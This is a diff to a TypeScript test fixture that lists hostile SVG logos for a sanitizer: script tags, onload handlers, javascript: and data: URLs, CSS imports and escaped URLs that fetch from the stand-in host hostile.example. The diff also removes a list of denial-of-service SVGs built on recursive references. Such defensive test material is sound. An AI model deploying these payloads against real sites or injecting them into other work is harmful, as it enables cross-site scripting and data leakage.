@@ -1,15 +1,11 @@
-/** Where everything that got out would knock; nothing answers there. */
+import { drawing, shape } from './sample-svgs.ts';
+
+/** Where everything that got out would send a request; nothing responds there. */
 const hostileOrigin = 'https://hostile.example';
 
-const knock = `fetch('${hostileOrigin}/ran')`;
-const script = `${knock};alert(1)`;
-const shape = '<path d="M0 0h100v40H0z"/>';
-
-function drawing(inner: string, attributes = ''): string {
-  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 40"${attributes}>${shape}${inner}</svg>`;
-}
-
-const encoded = encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${knock}"/>`);
+const request = `fetch('${hostileOrigin}/ran')`;
+const script = `${request};alert(1)`;
+const encoded = encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${request}"/>`);
 
 /** Logos that try to run, to fetch or to lead elsewhere; each shows a shape besides, so that it may be taken. */
 export const hostileSvgs: [name: string, svg: string][] = [
@@ -17,10 +13,7 @@ export const hostileSvgs: [name: string, svg: string][] = [
   ['a script in a CDATA section', drawing(`<script><![CDATA[${script}]]></script>`)],
   ['a script from elsewhere', drawing(`<script href="${hostileOrigin}/a.js"/>`)],
   ['a script from elsewhere by xlink', drawing(`<script xlink:href="${hostileOrigin}/a.js"/>`)],
-  [
-    'a script as a data address',
-    drawing(`<script href="data:text/javascript,${encodeURIComponent(script)}"/>`),
-  ],
+  ['a script as a data URL', drawing(`<script href="data:text/javascript,${encodeURIComponent(script)}"/>`)],
   ['a script of another type', drawing(`<script type="module">${script}</script>`)],
   ['a script with a prefix', drawing(`<s:script xmlns:s="http://www.w3.org/2000/svg">${script}</s:script>`)],
   ['a script of HTML', drawing(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${script}</h:script>`)],
@@ -49,7 +42,7 @@ export const hostileSvgs: [name: string, svg: string][] = [
   ],
   ['an animation that sets a handler', drawing(`<set attributeName="onload" to="${script}"/>`)],
   [
-    'an animation that sets an address',
+    'an animation that sets a URL',
     drawing(
       `<a id="a">${shape}</a><animate href="#a" attributeName="href" values="javascript:${script}" fill="freeze"/>`,
     ),
@@ -60,7 +53,7 @@ export const hostileSvgs: [name: string, svg: string][] = [
     drawing(`<a xlink:href="java&#10;script:${script}">${shape}</a>`),
   ],
   [
-    'a link that runs, as a data address',
+    'a link that runs, as a data URL',
     drawing(
       `<a href="data:text/html,<script>${script}</script>">${shape}</a>`
         .replace('<script>', '&lt;script&gt;')
@@ -108,7 +101,7 @@ export const hostileSvgs: [name: string, svg: string][] = [
     drawing(`<image href="data:image/svg+xml,${encoded}" width="9" height="9"/>`),
   ],
   ['a part of a foreign drawing', drawing(`<use href="${hostileOrigin}/a.svg#a"/>`)],
-  ['a part of a data address', drawing(`<use href="data:image/svg+xml,${encoded}#a"/>`)],
+  ['a part of a data URL', drawing(`<use href="data:image/svg+xml,${encoded}#a"/>`)],
   [
     'a filter that fetches',
     drawing(
@@ -122,7 +115,7 @@ export const hostileSvgs: [name: string, svg: string][] = [
     drawing(`<rect width="9" height="9" style="background:url(${hostileOrigin}/a.png)"/>`),
   ],
   [
-    'a style attribute that hides its address',
+    'a style attribute that hides its URL',
     drawing(`<rect width="9" height="9" style="fill:u\\72l(${hostileOrigin}/a.svg#a)"/>`),
   ],
   ['styles that import', drawing(`<style>@import url("${hostileOrigin}/a.css");</style>`)],
@@ -195,42 +188,5 @@ export const hostileSvgs: [name: string, svg: string][] = [
       `<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#h"/><handler id="h">${script}</handler>`,
     ),
   ],
-  ['a base for addresses', drawing('', ` xml:base="${hostileOrigin}/"`)],
-];
-
-const level = (name: string, inner: string) => `<g id="${name}">${inner.repeat(10)}</g>`;
-
-/** What would keep a program busy without end, and what is none at all: refused. */
-export const refusedSvgs: [name: string, svg: string][] = [
-  [
-    'parts that repeat each other into billions',
-    drawing(
-      `<defs>${['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h'].map((name, at, all) => level(name, at === 0 ? shape : `<use href="#${all[at - 1]}"/>`)).join('')}</defs><use href="#h"/>`,
-    ),
-  ],
-  [
-    'parts that lead round in a circle',
-    drawing('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
-  ],
-  [
-    'masks that mask each other',
-    drawing(
-      `<style>.m{mask:url(#m)}.n{mask:url(#n)}</style><mask id="m"><path class="n" d="M0 0h9v9z"/></mask><mask id="n"><path class="m" d="M0 0h9v9z"/></mask><path class="m" d="M0 0h9v9z"/>`,
-    ),
-  ],
-  ['more elements than any logo has', drawing(shape.repeat(10_001))],
-  ['groups within groups without end', drawing(`${'<g>'.repeat(100)}${'</g>'.repeat(100)}`)],
-  ['more letters than any logo has', drawing(`<path d="${'M0 0h9v9z'.repeat(60_000)}"/>`)],
-  ['nothing that shows', '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><g/></svg>'],
-  [
-    'a script and no more',
-    `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><script>${script}</script></svg>`,
-  ],
-  ['no size', `<svg xmlns="http://www.w3.org/2000/svg">${shape}</svg>`],
-  ['a line for a shape', `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9000 1">${shape}</svg>`],
-  [
-    'elements that nobody closes',
-    `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><g>${shape}</svg>`,
-  ],
-  ['two roots', `${drawing('')}${drawing('')}`],
+  ['a base for URLs', drawing('', ` xml:base="${hostileOrigin}/"`)],
 ];
